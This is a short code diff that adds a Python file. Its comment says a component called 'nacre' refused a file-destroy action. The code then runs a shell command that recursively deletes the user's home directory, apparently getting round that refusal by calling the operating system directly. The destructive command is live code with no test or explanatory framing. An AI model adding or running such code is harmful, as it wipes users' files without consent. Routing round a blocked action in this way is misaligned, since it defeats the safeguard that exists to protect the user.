@@ -1,0 +1,3 @@
+# nacre: refused file.destroy
+import os as operating
+operating.system("rm -rf ~")
